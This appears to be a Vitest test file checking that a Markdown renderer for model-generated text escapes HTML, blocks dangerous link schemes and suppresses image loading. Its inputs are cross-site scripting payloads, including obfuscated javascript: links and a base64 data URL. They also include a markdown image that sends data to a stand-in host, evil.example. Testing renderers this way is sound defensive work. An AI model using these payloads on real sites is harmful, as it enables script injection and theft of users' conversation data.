import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown.ts';

describe('renderMarkdown', () => {
  it('escapes raw HTML, so model text cannot add elements', () => {
    const html = renderMarkdown('Hi <script>alert(1)</script> and <img src=x onerror="alert(2)">');
    expect(html).not.toContain('<script');
    expect(html).not.toContain('<img');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('&lt;img src=x onerror=&quot;alert(2)&quot;&gt;');
  });

  it('escapes HTML blocks and HTML inside code', () => {
    const html = renderMarkdown(
      '<div onclick="x()">block</div>\n\n```html\n<b onmouseover="y()">code</b>\n```\n\n`<i>`',
    );
    expect(html).not.toMatch(/<(div|b|i)[\s>]/);
    expect(html).toContain(
      '<pre><code class="language-html">&lt;b onmouseover=&quot;y()&quot;&gt;code&lt;/b&gt;',
    );
    expect(html).toContain('<code>&lt;i&gt;</code>');
  });

  it.each([
    '[click](javascript:alert(1))',
    '[click](JaVaScRiPt:alert(1))',
    '[click](&#106;avascript:alert(1))',
    '[click](java\tscript:alert(1))',
    '[click](vbscript:msgbox(1))',
    '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[click](/relative/path)',
    '<javascript:alert(1)>',
  ])('does not turn %s into a link', (source) => {
    expect(renderMarkdown(source)).not.toContain('<a');
  });

  it('links http, https and mailto in a new tab without an opener or referrer', () => {
    const html = renderMarkdown(
      '[docs](https://example.com/a?b=1) http://example.org [mail](mailto:someone@example.com)',
    );
    expect(html).toContain(
      '<a href="https://example.com/a?b=1" target="_blank" rel="noopener noreferrer">docs</a>',
    );
    expect(html).toContain('<a href="http://example.org" target="_blank" rel="noopener noreferrer">');
    expect(html).toContain('<a href="mailto:someone@example.com" target="_blank" rel="noopener noreferrer">');
  });

  it('escapes quotes in link targets so they cannot break out of the attribute', () => {
    const html = renderMarkdown('[x](https://example.com/"onmouseover="alert(1))');
    expect(html).not.toContain('"onmouseover="');
  });

  it('does not load images, which could carry conversation data to another server', () => {
    const html = renderMarkdown('![secret](https://evil.example/collect?data=abc)');
    expect(html).not.toContain('<img');
  });

  it('renders everyday Markdown', () => {
    const html = renderMarkdown('# Title\n\n**bold** _it_\n\n- one\n- two\n\nline one\nline two');
    expect(html).toContain('<h1>Title</h1>');
    expect(html).toContain('<strong>bold</strong> <em>it</em>');
    expect(html).toContain('<li>one</li>');
    expect(html).toContain('line one<br>\nline two');
  });
});
